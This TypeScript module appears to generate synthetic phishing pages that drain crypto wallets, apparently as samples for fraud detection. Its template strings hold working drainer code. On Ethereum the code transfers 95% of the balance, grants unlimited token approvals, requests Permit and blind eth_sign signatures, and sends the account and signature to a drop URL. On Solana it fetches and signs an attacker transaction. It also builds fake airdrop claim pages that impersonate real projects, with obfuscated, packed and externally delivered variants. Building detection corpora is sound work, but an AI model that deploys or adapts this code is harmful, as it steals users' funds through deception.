import type { Chance } from '../make/chance.ts'
import type { Made, Resource } from '../make/envelope.ts'
import { library, ownScript } from '../make/libraries.ts'
import { fraudPage } from '../make/made.ts'
import { coded } from './code/coders.ts'
import { scriptTag, whole } from './code/document.ts'
import { inserted } from './code/drawing.ts'
import { packed } from './code/packers.ts'
import { quoted } from './code/tree.ts'
import { fraudFamily } from './kit/fraud-family.ts'
import { dropUrl, secureUrl } from './kit/places.ts'
import { DRAIN_TALKS, type DrainTalk, PROJECTS } from './words/drainer-words.ts'

interface Drain {
  readonly talk: DrainTalk
  readonly project: (typeof PROJECTS)[number]
  readonly say: (text: string) => string
  /** Declares the asynchronous function `take`. */
  readonly code: string
}

const address = (chance: Chance) => `0x${chance.hex(40)}`
const word = (hex: string) => hex.padStart(64, '0')

/** Code that asks a wallet to sign a transfer, an approval, a permit, a multicall, or a message. */
function ethereum(chance: Chance): string {
  const [taker, token] = [address(chance), address(chance)]
  const most = 'f'.repeat(64)
  const ask = chance.of([
    () =>
      `var bal=await eth.request({method:"eth_getBalance",params:[acc,"latest"]});var v="0x"+(BigInt(bal)*95n/100n).toString(16);await eth.request({method:"eth_sendTransaction",params:[{from:acc,to:"${taker}",value:v,data:"0x${chance.of(['4e71d92d', '3158952e', '5fba79f5'])}"}]});`,
    () =>
      `await eth.request({method:"eth_sendTransaction",params:[{from:acc,to:"${token}",data:"0x095ea7b3${word(taker.slice(2))}${most}"}]});`,
    () =>
      `await eth.request({method:"eth_sendTransaction",params:[{from:acc,to:"${token}",data:"0xa22cb465${word(taker.slice(2))}${word('1')}"}]});`,
    () =>
      `var msg={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],Permit:[{name:"owner",type:"address"},{name:"spender",type:"address"},{name:"value",type:"uint256"},{name:"nonce",type:"uint256"},{name:"deadline",type:"uint256"}]},primaryType:"Permit",domain:{name:"USD Coin",chainId:1,verifyingContract:"${token}"},message:{owner:acc,spender:"${taker}",value:"${2n ** 256n - 1n}",nonce:0,deadline:${1_790_000_000 + chance.below(9_000_000)}}};var sig=await eth.request({method:"eth_signTypedData_v4",params:[acc,JSON.stringify(msg)]});`,
    () =>
      `var tokens=await eth.request({method:"eth_call",params:[{to:"${token}",data:"0x70a08231"+acc.slice(2).padStart(64,"0")},"latest"]});if(tokens!=="0x")await eth.request({method:"eth_sendTransaction",params:[{from:acc,to:"${token}",data:"0xa9059cbb${word(taker.slice(2))}"+tokens.slice(2).padStart(64,"0")}]});`,
    () => `var sig=await eth.request({method:"eth_sign",params:[acc,"0x${chance.hex(64)}"]});`,
  ])()
  return `async function take(){var eth=window.ethereum;if(!eth){location.href="https://metamask.app.link/dapp/"+location.host;return}var acc=(await eth.request({method:"eth_requestAccounts"}))[0];try{await eth.request({method:"wallet_switchEthereumChain",params:[{chainId:"0x1"}]})}catch(e){}${ask}navigator.sendBeacon(${quoted(dropUrl(chance))},JSON.stringify({acc:acc,sig:typeof sig==="undefined"?null:sig}))}`
}

const solana = (chance: Chance) =>
  `async function take(){var p=(window.phantom&&window.phantom.solana)||window.solana;if(!p){location.href="https://phantom.app/ul/browse/"+encodeURIComponent(location.href);return}var r=await p.connect();var tx=await fetch(${quoted(dropUrl(chance))}+"?w="+r.publicKey.toString()).then(function(x){return x.json()}).catch(function(){return {m:"${chance.base64(64)}"}});await p.signAndSendTransaction(tx)}`

function drainOf(chance: Chance): Drain {
  const talk = chance.of(DRAIN_TALKS)
  const project = chance.of(PROJECTS)
  return {
    talk,
    project,
    say: (text) => text.replaceAll('{p}', project.name).replaceAll('{t}', project.token),
    code: project.chain === 'solana' ? solana(chance) : ethereum(chance),
  }
}

type Way = (drain: Drain, url: string, chance: Chance) => { body: string; resources?: readonly Resource[] }

const card = ({ talk, say, project }: Drain, chance: Chance) =>
  `<div class="card"><img src="https://${project.domain}/favicon.ico" alt="${project.name}"><h1>${say(chance.of(talk.heading))}</h1><p>${say(chance.of(talk.text))}</p><p><b>${chance.digits(4)} ${project.token}</b></p><button class="go" id="go">${chance.of([talk.connect, say(talk.claim)])}</button></div>`

const WIRE =
  'document.addEventListener("click",function(e){if(e.target.closest(".go"))take().catch(function(){})});'

const simple: Way = (drain, _url, chance) => ({
  body: `${card(drain, chance)}${scriptTag(`${drain.code}\n${WIRE}`)}`,
})

const hidden: Way = (drain, _url, chance) => {
  const { markup, code } = inserted(coded(card(drain, chance), chance), chance, [
    'inner',
    'adjacent',
    'body',
    'parser',
  ])
  return {
    body: `${markup}${scriptTag(packed(`${drain.code}\n${code}\n${WIRE}`, 1 + chance.below(2), chance))}`,
  }
}

/** The part that takes is a file of another host or of this one, as such services deliver it. */
const delivered: Way = (drain, url, chance) => {
  const elsewhere = chance.maybe(0.5)
  const path = elsewhere
    ? `${dropUrl(chance).replace(/\/[^/]*$/, '')}/${chance.hex(8)}.js`
    : `${chance.of(['assets', 'static', 'js'])}/${chance.of(['wallet', 'ethers', 'seaport', 'web3', 'contract'])}-${chance.hex(6)}.js`
  const script = ownScript(
    url,
    path,
    chance.maybe(0.5) ? `${drain.code}\n${WIRE}` : packed(`${drain.code}\n${WIRE}`, 1, chance),
  )
  return { body: `${card(drain, chance)}${script.tag}`, resources: [script.resource] }
}

const react: Way = (drain, url, chance) => {
  const libs = [library('react', url, chance), library('reactDom', url, chance)]
  const { talk, say } = drain
  const code = `const e=React.createElement;${drain.code}
function Claim(){const[s,set]=React.useState(0);return e("section",{className:"card"},e("h1",null,${quoted(say(chance.of(talk.heading)))}),e("p",null,${quoted(say(chance.of(talk.text)))}),e("button",{className:"go",onClick:()=>{set(1);take().finally(()=>set(2))}},s===1?${quoted(talk.wait)}:s?${quoted(say(talk.claim))}:${quoted(talk.connect)}))}
ReactDOM.createRoot(document.getElementById("root")).render(e(Claim));`
  return {
    body: `<div id="root"></div>${libs.map(({ tag }) => tag).join('')}${scriptTag(code)}`,
    resources: libs.map(({ resource }) => resource),
  }
}

/** A choice of wallets in a window of its own, which asks on its own after a time. */
const chooser: Way = (drain, _url, chance) => {
  const wallets = chance.some(
    ['MetaMask', 'WalletConnect', 'Coinbase Wallet', 'Phantom', 'Trust Wallet', 'Rabby', 'OKX Wallet'],
    4,
  )
  const list = `<div style="position:fixed;inset:20% 35%;background:#111;color:#fff">${wallets.map((name) => `<button class="w">${name}</button>`).join('')}</div>`
  return {
    body: `${card(drain, chance)}<div id="m"></div>${scriptTag(`${drain.code}
document.querySelector(".go").onclick=function(){document.getElementById("m").attachShadow({mode:"open"}).innerHTML=${quoted(list)};document.getElementById("m").shadowRoot.querySelectorAll(".w").forEach(function(b){b.onclick=take});this.onclick=null;${chance.maybe(0.5) ? 'setTimeout(take,1500);' : ''}};`)}`,
  }
}

function page(way: Way, chance: Chance): Made {
  const drain = drainOf(chance)
  const { project, talk, say } = drain
  const url = secureUrl(`${project.name} ${chance.of(['claim', 'airdrop', 'app', 'drop'])}`, chance)
  const { body, resources } = way(drain, url, chance)
  return fraudPage(
    url,
    whole({
      language: talk.language,
      title: chance.of([`${project.name} | ${say(talk.claim)}`, `${project.name} Airdrop`, project.name]),
      head: `<meta name="viewport" content="width=device-width"><meta property="og:url" content="https://${project.domain}/"><link rel="icon" href="https://${project.domain}/favicon.ico"><style>body{background:#0b0b12;color:#fff;font-family:Inter,sans-serif}.card{max-width:420px;margin:80px auto}.go{padding:14px 28px;border-radius:12px}</style>`,
      body,
    }),
    resources,
  )
}

export const scriptedDrainer = fraudFamily(
  'scripted_drainer',
  [simple, hidden, delivered, react, chooser].map((way) => (chance: Chance) => page(way, chance)),
)
